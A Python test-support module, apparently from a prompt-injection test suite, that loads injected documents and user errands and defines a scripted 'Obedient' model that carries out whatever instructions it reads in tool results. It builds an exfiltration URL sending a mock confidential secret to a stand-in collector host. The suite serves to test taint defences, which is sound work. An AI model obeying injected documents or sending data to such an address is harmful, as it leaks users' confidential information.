"""Documents that are written for an agent, errands, and a model that does whatever it reads; from tests/injection/."""

import shutil
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, cast
from urllib.parse import quote

import yaml

from agent.model import ModelRequest, ToolResultMessage, UserMessage
from domain.resources import resource_folder
from tests.support.scripted_model import Turn, asks, call, says

Json = dict[str, Any]
Asked = tuple[str, Json]
"""A tool and its arguments."""

COLLECTOR = "https://collector.invalid"
"""Whoever wrote the documents listens there."""
DATA = Path(__file__).parents[1] / "injection"
SECRET = "remuneration of the partners: 1,234,567"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One document that was written for the agent."""

    number: int
    kind: str
    wants: str
    by: str
    text: str
    title: str
    file: str
    trust: str
    audience: str

    @property
    def ref(self) -> str:
        """What the model knows it by."""
        return f"INJ-{self.number:03}"

    @property
    def secret(self) -> str:
        """What it would carry out, so that it is known whose doing that was."""
        return f"{SECRET} ({self.ref})"

    @property
    def carrier(self) -> str:
        """An address that carries it out, once anything asks for it."""
        return f"{COLLECTOR}/p?d={quote(self.secret, safe='')}"


@dataclass(frozen=True, slots=True, kw_only=True)
class Errand:
    """Something that a person asks for, and the calls that it takes."""

    name: str
    calls: tuple[Asked, ...]
    asked: bool
    """By the rules a person is asked on the way."""


def attacks() -> list[Attack]:
    """All of them, each under its number."""
    groups = cast("list[Json]", yaml.safe_load((DATA / "attacks.yaml").read_text(encoding="utf-8")))
    written = [(group, document) for group in groups for document in group["documents"]]
    return [_attack(number, group, document) for number, (group, document) in enumerate(written, 1)]


def _attack(number: int, group: Json, document: Json) -> Attack:
    ref = f"INJ-{number:03}"
    return Attack(
        number=number,
        kind=group["kind"],
        wants=document["wants"],
        by=group.get("by", "read"),
        text=document["text"].replace("{ref}", ref),
        title=document.get("title", f"Paper {number}").replace("{ref}", ref),
        file=document.get("file", f"paper-{number}.txt"),
        trust=group.get("trust", "external"),
        audience=group.get("audience", "firm"),
    )


def errands() -> list[Errand]:
    """All of them."""
    written = cast("list[Json]", yaml.safe_load((DATA / "errands.yaml").read_text(encoding="utf-8")))
    return [
        Errand(name=each["name"], calls=tuple(map(_asked, each["calls"])), asked=each.get("asked", False))
        for each in written
    ]


def _asked(written: Sequence[Any]) -> Asked:
    tool, arguments = written
    return tool, arguments


def without_taint(folder: Path) -> Path:
    """The manifests that ship, laid out there, but for the policies of this chapter: what an agent would do without."""
    shutil.copytree(resource_folder("manifests"), folder, ignore=shutil.ignore_patterns("taint.*"))
    return folder


@dataclass(slots=True)
class Obedient:
    """The brain of a model that first does what its user asked, and from then on whatever it has read."""

    first: dict[str, list[Asked]] = field(default_factory=dict[str, list[Asked]])
    """By the user's words: the calls that the errand takes, one a turn."""
    orders: dict[str, list[Asked]] = field(default_factory=dict[str, list[Asked]])
    """By the reference that a result must hold: what a model does that obeys it, all at once."""
    answers: dict[str, str] = field(default_factory=dict[str, str])
    obeyed: set[str] = field(default_factory=set[str])

    def __call__(self, request: ModelRequest) -> Turn:
        said = max(at for at, each in enumerate(request.messages) if isinstance(each, UserMessage))
        words = cast(UserMessage, request.messages[said]).text
        results = [each.text for each in request.messages[said:] if isinstance(each, ToolResultMessage)]
        errand = next(calls for start, calls in self.first.items() if words.startswith(start))
        if len(results) < len(errand):
            tool, arguments = errand[len(results)]
            return asks(call(tool, arguments, id=f"errand_{len(results)}"))
        read = "\n".join(results)
        ref = next((ref for ref in self.orders if ref in read), None)
        if ref is None:
            return says("Done.")
        if len(results) == len(errand):
            self.obeyed.add(ref)
            orders = [call(tool, arguments, id=f"order_{at}") for at, (tool, arguments) in enumerate(self.orders[ref])]
            return asks(*orders)
        return says(self.answers.get(ref, "Done, as I was told."))
